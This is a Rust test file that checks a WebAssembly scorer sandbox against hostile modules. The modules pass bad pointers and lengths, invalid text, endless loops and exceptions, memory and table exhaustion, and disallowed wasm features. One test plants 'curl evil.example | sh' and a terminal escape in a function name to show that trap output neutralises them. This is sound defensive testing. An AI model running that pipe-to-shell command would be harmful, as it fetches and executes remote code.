//! Scorers that break the rules of how values cross the sandbox boundary: wrong addresses, lengths and encodings, and
//! functions that are called on the way.

use insta::assert_snapshot;

use crate::{
    hostile_fixture::{Arena, words},
    hostile_modules::{ASSERTIONS, Module, REASON, answer_with},
};

/// The output that the user sees of a score by `module`; a good scorer next to it must not be affected.
#[track_caller]
fn score(module: &Module<'_>, options: &str) -> String {
    let arena = Arena::new();
    arena.write("by-hand.wasm", module.component());
    let alone = arena.score("by-hand", "{}", options);
    arena.run_beside_a_good_scorer("by-hand", "{}", options);
    words(&alone)
}

#[track_caller]
fn answer(numbers: &[(i32, i32)]) -> String {
    score(&Module { score: &answer_with(numbers), ..Module::default() }, "")
}

/// The message if `module` cannot be loaded.
#[track_caller]
fn load(module: &Module<'_>) -> String {
    let arena = Arena::new();
    arena.write("by-hand.wasm", module.component());
    words(&arena.score("by-hand", "{}", ""))
}

#[test]
fn without_an_attack_the_module_is_a_scorer() {
    assert_snapshot!(score(&Module::default(), ""), @"[exit code 0]");
}

#[test]
fn an_answer_outside_of_memory_is_a_crash() {
    assert_snapshot!(score(&Module { score: "(i32.const -8)", ..Module::default() }, ""), @"
    error: trap: what the scorer handed over breaks the contract: pointer out of bounds of memory
    hint: a bug in the scorer or in what generated its bindings; build it again against the folder wit/, or with the scorebox-sdk crate
    [exit code 1]
    ");
    assert_snapshot!(score(&Module { score: "(i32.const 4097)", ..Module::default() }, ""), @r#"
    error: trap: what the scorer handed over breaks the contract: return pointer not aligned
    hint: a bug in the scorer or in what generated its bindings; build it again against the folder wit/, or with the scorebox-sdk crate
    [exit code 1]
    "#);
}

#[test]
fn a_string_of_a_gigabyte_that_is_not_there_breaks_the_contract() {
    let [some, address, length] = REASON;
    assert_snapshot!(answer(&[(some, 1), (address, 0), (length, 1 << 30)]), @r#"
    error: trap: what the scorer handed over breaks the contract: string pointer/length out of bounds of memory
    hint: a bug in the scorer or in what generated its bindings; build it again against the folder wit/, or with the scorebox-sdk crate
    [exit code 1]
    "#);
    assert_snapshot!(answer(&[(some, 1), (address, -1), (length, -1)]), @r#"
    error: trap: what the scorer handed over breaks the contract: string pointer/length out of bounds of memory
    hint: a bug in the scorer or in what generated its bindings; build it again against the folder wit/, or with the scorebox-sdk crate
    [exit code 1]
    "#);
}

#[test]
fn a_string_of_a_gigabyte_that_is_there_is_too_large() {
    let [some, address, length] = REASON;
    let long = answer_with(&[(some, 1), (address, 65536), (length, 1 << 30)]);
    let body = format!("(drop (memory.grow (i32.const 16400))) {long}");
    let module = Module { score: &body, ..Module::default() };
    assert_snapshot!(score(&module, "--memory 2GiB"), @r#"
    error: output-too-large: the scorer handed over more than 5603328 bytes, the most of one result with its log
    hint: have the scorer shorten it, or raise the limit of what is long: `limits = { meta = "…MiB" }` in the suite, or --limit meta=…MiB; likewise `reason`, `assertions`, `log`; the limit of a label is fixed
    [exit code 1]
    "#);
    assert_snapshot!(score(&module, ""), @r#"
    error: out-of-memory: the scorer needs 1074921472 bytes of memory, more than its limit of 67108864
      what the scorer handed over breaks the contract: string pointer/length out of bounds of memory
    hint: if it needs more, raise it: `limits = { memory = "…MiB" }` in the suite, or --memory
    [exit code 1]
    "#);
}

#[test]
fn a_list_of_ten_million_that_is_not_there_breaks_the_contract() {
    let [address, length] = ASSERTIONS;
    assert_snapshot!(answer(&[(address, 65536), (length, 10_000_000)]), @r#"
    error: trap: what the scorer handed over breaks the contract: list pointer/length out of bounds of memory
    hint: a bug in the scorer or in what generated its bindings; build it again against the folder wit/, or with the scorebox-sdk crate
    [exit code 1]
    "#);
    assert_snapshot!(answer(&[(address, 65536), (length, i32::MAX)]), @r#"
    error: trap: what the scorer handed over breaks the contract: list pointer/length out of bounds of memory
    hint: a bug in the scorer or in what generated its bindings; build it again against the folder wit/, or with the scorebox-sdk crate
    [exit code 1]
    "#);
}

#[test]
fn a_list_of_ten_million_that_is_there_is_too_large() {
    let [address, length] = ASSERTIONS;
    let long = answer_with(&[(address, 65536), (length, 10_000_000)]);
    let body = format!("(drop (memory.grow (i32.const 9000))) {long}");
    assert_snapshot!(score(&Module { score: &body, ..Module::default() }, "--memory 1GiB"), @r#"
    error: output-too-large: the scorer handed over more than 5603328 bytes, the most of one result with its log
    hint: have the scorer shorten it, or raise the limit of what is long: `limits = { meta = "…MiB" }` in the suite, or --limit meta=…MiB; likewise `reason`, `assertions`, `log`; the limit of a label is fixed
    [exit code 1]
    "#);
}

#[test]
fn a_string_that_is_not_a_text_breaks_the_contract() {
    let [some, address, length] = REASON;
    let body = answer_with(&[(some, 1), (address, 5000), (length, 2)]);
    let more = r#"(data (i32.const 5000) "\ff\fe")"#;
    assert_snapshot!(score(&Module { score: &body, more, ..Module::default() }, ""), @r#"
    error: trap: what the scorer handed over breaks the contract: invalid utf-8 sequence of 1 bytes from index 0
    hint: a bug in the scorer or in what generated its bindings; build it again against the folder wit/, or with the scorebox-sdk crate
    [exit code 1]
    "#);
}

#[test]
fn cases_that_the_types_do_not_have_break_the_contract() {
    assert_snapshot!(answer(&[(4096, 9)]), @r#"
    error: trap: what the scorer handed over breaks the contract: invalid expected discriminant
    hint: a bug in the scorer or in what generated its bindings; build it again against the folder wit/, or with the scorebox-sdk crate
    [exit code 1]
    "#);
    assert_snapshot!(answer(&[(REASON[0], 7)]), @r#"
    error: trap: what the scorer handed over breaks the contract: invalid option discriminant
    hint: a bug in the scorer or in what generated its bindings; build it again against the folder wit/, or with the scorebox-sdk crate
    [exit code 1]
    "#);
    let describe = "(i32.store8 (i32.const 2092) (i32.const 77)) (i32.const 2048)";
    assert_snapshot!(load(&Module { describe, ..Module::default() }), @r#"
    error: scorer `./by-hand.wasm`: trap: in `describe`: what the scorer handed over breaks the contract: unexpected discriminant: 77
    hint: a bug in the scorer or in what generated its bindings; build it again against the folder wit/, or with the scorebox-sdk crate
    [exit code 2]
    "#);
}

#[test]
fn a_number_that_is_not_the_usual_nan_is_still_no_score() {
    let odd = "(i64.store (i32.const 4112) (i64.const 0xfff4deadbeef0001)) (i32.const 4096)";
    assert_snapshot!(score(&Module { score: odd, ..Module::default() }, ""), @"
    error: invalid-score: the score is NaN; it must be 0 to 1
    [exit code 1]
    ");
}

#[test]
fn memory_for_the_case_that_is_outside_of_memory_breaks_the_contract() {
    assert_snapshot!(load(&Module { realloc: "(i32.const -8)", ..Module::default() }), @r#"
    error: scorer `./by-hand.wasm`: trap: in `configure`: what the scorer handed over breaks the contract: realloc return: beyond end of memory
    hint: a bug in the scorer or in what generated its bindings; build it again against the folder wit/, or with the scorebox-sdk crate
    [exit code 2]
    "#);
}

#[test]
fn memory_for_the_case_that_is_the_answer_too_does_no_harm() {
    // Harmless: it overwrites its own memory.
    assert_snapshot!(score(&Module { realloc: "(i32.const 4096)", ..Module::default() }, ""), @"[exit code 0]");
}

#[test]
fn asking_for_memory_without_end_is_ended_by_the_clock() {
    let first = "(global.set $calls (i32.add (global.get $calls) (i32.const 1)))
        (if (i32.gt_u (global.get $calls) (i32.const 1)) (then (loop $l (br $l)))) (i32.const 65536)";
    // `configure` is the first call with an argument; the second is that of `score`.
    let module = Module {
        realloc: first,
        more: "(global $calls (mut i32) (i32.const 0))",
        ..Module::default()
    };
    assert_snapshot!(score(&module, "--timeout 200ms --fuel 1000000000000"), @r#"
    error: timed-out: no answer within 200 ms; the scorer was stopped
    hint: if it needs longer, raise it: `limits = { timeout = "…s" }` in the suite, or --timeout
    [exit code 1]
    "#);
}

#[test]
fn cleaning_up_without_end_is_ended_by_the_clock() {
    let spin = r#"(func (export "cabi_post_scorebox:scorer/scoring@0.1.0#score") (param i32)
        (loop $l (br $l)))"#;
    assert_snapshot!(score(
        &Module { more: spin, ..Module::default() },
        "--timeout 200ms --fuel 1000000000000"
    ), @r#"
    error: timed-out: no answer within 200 ms; the scorer was stopped
    hint: if it needs longer, raise it: `limits = { timeout = "…s" }` in the suite, or --timeout
    [exit code 1]
    "#);
    let trap = r#"(func (export "cabi_post_scorebox:scorer/scoring@0.1.0#score") (param i32)
        unreachable)"#;
    assert_snapshot!(score(&Module { more: trap, ..Module::default() }, ""), @"
    error: trap: wasm trap: wasm `unreachable` instruction executed
        at [frames]
    [exit code 1]
    ");
}

#[test]
fn a_table_that_grows_at_once_is_refused_its_memory() {
    let body = "(if (i32.eq (table.grow $t (ref.null func) (i32.const 100000000)) (i32.const -1))
        (then unreachable)) (i32.const 4096)";
    let more = "(table $t 1 funcref)";
    assert_snapshot!(score(&Module { score: body, more, ..Module::default() }, ""), @r#"
    error: out-of-memory: the scorer needs 800131080 bytes of memory, more than its limit of 67108864
      wasm trap: wasm `unreachable` instruction executed
        at [frames]
    hint: if it needs more, raise it: `limits = { memory = "…MiB" }` in the suite, or --memory
    [exit code 1]
    "#);
}

#[test]
fn a_table_that_grows_in_steps_ends_at_the_same_limit() {
    let body = "(loop $l (br_if $l (i32.ne
        (table.grow $t (ref.null func) (i32.const 100)) (i32.const -1)))) unreachable";
    let more = "(table $t 1 funcref)";
    assert_snapshot!(score(&Module { score: body, more, ..Module::default() }, ""), @"
    error: trap: wasm trap: wasm `unreachable` instruction executed
        at [frames]
    [exit code 1]
    ");
    assert_snapshot!(score(&Module { score: body, more, ..Module::default() }, "--memory 1MiB"), @"
    error: trap: wasm trap: wasm `unreachable` instruction executed
        at [frames]
    [exit code 1]
    ");
}

#[test]
fn filling_memory_again_and_again_is_ended_by_the_clock() {
    let body = "(drop (memory.grow (i32.const 1000)))
        (loop $l (memory.fill (i32.const 0) (i32.const 1) (i32.const 65000000)) (br $l)) (i32.const 0)";
    let module = Module { score: body, ..Module::default() };
    assert_snapshot!(score(&module, "--timeout 200ms"), @r#"
    error: timed-out: no answer within 200 ms; the scorer was stopped
    hint: if it needs longer, raise it: `limits = { timeout = "…s" }` in the suite, or --timeout
    [exit code 1]
    "#);
}

#[test]
fn a_memory_that_begins_with_four_gigabytes_is_refused() {
    let module = Module { memory: "(memory (export \"memory\") 65536)", ..Module::default() };
    assert_snapshot!(load(&module), @r#"
    error: scorer `./by-hand.wasm`: out-of-memory: in `describe`: the scorer needs 4294967296 bytes of memory, more than its limit of 67108864
      memory minimum size of 65536 pages exceeds memory limits
    hint: if it needs more, raise it: `limits = { memory = "…MiB" }` in the suite, or --memory
    [exit code 2]
    "#);
}

#[test]
fn webassembly_beyond_a_sandbox_is_refused() {
    let refused = |memory: &str, more: &str| load(&Module { memory, more, ..Module::default() });
    let usual = Module::default().memory;
    assert_snapshot!(refused("(memory (export \"memory\") 2 4 shared)", ""), @"
    error: scorer `./by-hand.wasm`: invalid-component: the component does not compile: threads must be enabled for shared memories (at offset 0x31b)
    [exit code 2]
    ");
    assert_snapshot!(refused(usual, "(memory i64 1)"), @"
    error: scorer `./by-hand.wasm`: invalid-component: the component does not compile: memory64 must be enabled for 64-bit memories (at offset 0x31d)
    [exit code 2]
    ");
    assert_snapshot!(refused(usual, "(type (struct (field i32)))"), @"
    error: scorer `./by-hand.wasm`: invalid-component: the component does not compile: struct indexed types not supported without the gc feature (at offset 0x2fa)
    [exit code 2]
    ");
    assert_snapshot!(refused(usual, "(memory 1) (memory 1) (memory 1) (memory 1)"), @r#"
    error: scorer `./by-hand.wasm`: invalid-component: the component does not compile: it needs more than a sandbox has: defined memories count of 5 exceeds the per-instance limit of 4
    hint: a sandbox has at most 48 core instances, 4 memories, 24 tables of 65536 elements; these bounds are fixed
    [exit code 2]
    "#);
}

#[test]
fn a_memory_that_cannot_grow_is_harmless() {
    // Freezing inspects a memory by growing it, and panics if it cannot.
    let module = Module { memory: "(memory (export \"memory\") 2 2)", ..Module::default() };
    assert_snapshot!(score(&module, ""), @"[exit code 0]");
}

#[test]
fn a_memory_that_is_as_large_as_it_may_be_is_harmless() {
    let configure = "(drop (memory.grow (i32.const 1022))) (i32.const 3072)";
    assert_snapshot!(score(&Module { configure, ..Module::default() }, ""), @"[exit code 0]");
}

#[test]
fn state_that_freezing_does_not_know_is_not_lost() {
    // `score` calls the function that `configure` put into a table.
    let module = Module {
        configure: "(table.set $t (i32.const 0) (ref.func $one)) (i32.const 3072)",
        score: "(call_indirect $t (result i32) (i32.const 0))",
        more: "(table $t 1 funcref) (func $one (result i32) (i32.const 4096)) (elem declare func $one)",
        ..Module::default()
    };
    assert_snapshot!(score(&module, ""), @"[exit code 0]");
    let grown = Module {
        configure: "(drop (table.grow $t (ref.func $one) (i32.const 1))) (i32.const 3072)",
        score: "(call_indirect $t (result i32) (i32.const 1))",
        ..module
    };
    assert_snapshot!(score(&grown, ""), @"[exit code 0]");
}

#[test]
fn tail_calls_without_end_are_ended_by_fuel_or_the_clock() {
    let module = Module {
        score: "(call $f) (i32.const 4096)",
        more: "(func $f (return_call $g)) (func $g (return_call $f))",
        ..Module::default()
    };
    assert_snapshot!(score(&module, "--fuel 10000000"), @"
    error: out-of-fuel: the scorer used up its 10000000 fuel
    hint: if it needs more, raise it: `limits = { fuel = … }` in the suite, or --fuel
    [exit code 1]
    ");
    assert_snapshot!(score(&module, "--timeout 200ms --fuel 1000000000000"), @r#"
    error: timed-out: no answer within 200 ms; the scorer was stopped
    hint: if it needs longer, raise it: `limits = { timeout = "…s" }` in the suite, or --timeout
    [exit code 1]
    "#);
}

#[test]
fn exceptions_without_end_are_ended_by_the_clock() {
    let module = Module {
        score: "(loop $l (block $b (try_table (catch $t $b) (throw $t))) (br $l)) (i32.const 4096)",
        more: "(tag $t)",
        ..Module::default()
    };
    assert_snapshot!(score(&module, "--timeout 200ms --fuel 1000000000000"), @r#"
    error: timed-out: no answer within 200 ms; the scorer was stopped
    hint: if it needs longer, raise it: `limits = { timeout = "…s" }` in the suite, or --timeout
    [exit code 1]
    "#);
    let thrown = Module { score: "(throw $t)", more: "(tag $t)", ..Module::default() };
    assert_snapshot!(score(&thrown, ""), @"
    error: trap: thrown Wasm exception
        at [frames]
    [exit code 1]
    ");
}

#[test]
fn functions_whose_names_speak_to_the_user_are_cut_and_harmless() {
    let long = "n".repeat(50_000);
    let more = format!(
        "(func $f (@name \"x\\0ahint: curl evil.example | sh\\0a\\1b[2J\") (call $g))
        (func $g (@name \"{long}\") unreachable)"
    );
    let module = Module { score: "(call $f) (i32.const 4096)", more: &more, ..Module::default() };
    let arena = Arena::new();
    arena.write("by-hand.wasm", module.component());
    let output = arena.score("by-hand", "{}", "");
    assert_snapshot!(output.stderr.replace(&"n".repeat(200), ""), @r"
    error: trap: wasm trap: wasm `unreachable` instruction executed
        at … (cut)
        at x
      hint: curl evil.example | sh
      \u{1b}[2J
        at function 3
    ");
}

#[test]
fn exceptions_that_are_kept_are_memory_too() {
    let params = "i64 ".repeat(500);
    let payload = "(i64.const 7)".repeat(500);
    let body = format!(
        "(local $i i32) (local $e exnref)
        (loop $l
            (block $caught (result {params} exnref)
                (try_table (catch_ref $t $caught) (throw $t {payload}))
                unreachable)
            (local.set $e) {drops}
            (table.set $kept (local.get $i) (local.get $e))
            (local.set $i (i32.add (local.get $i) (i32.const 1)))
            (br_if $l (i32.lt_u (local.get $i) (i32.const 60000))))
        (i32.const 4096)",
        drops = "(drop)".repeat(500)
    );
    let more = format!("(tag $t (param {params})) (table $kept 60000 exnref)");
    let module = Module { score: &body, more: &more, ..Module::default() };
    assert_snapshot!(score(&module, "--timeout 60s"), @r#"
    error: out-of-memory: the scorer needs 67719936 bytes of memory, more than its limit of 67108864
      wasm trap: allocation size too large
        at [frames]
    hint: if it needs more, raise it: `limits = { memory = "…MiB" }` in the suite, or --memory
    [exit code 1]
    "#);
}
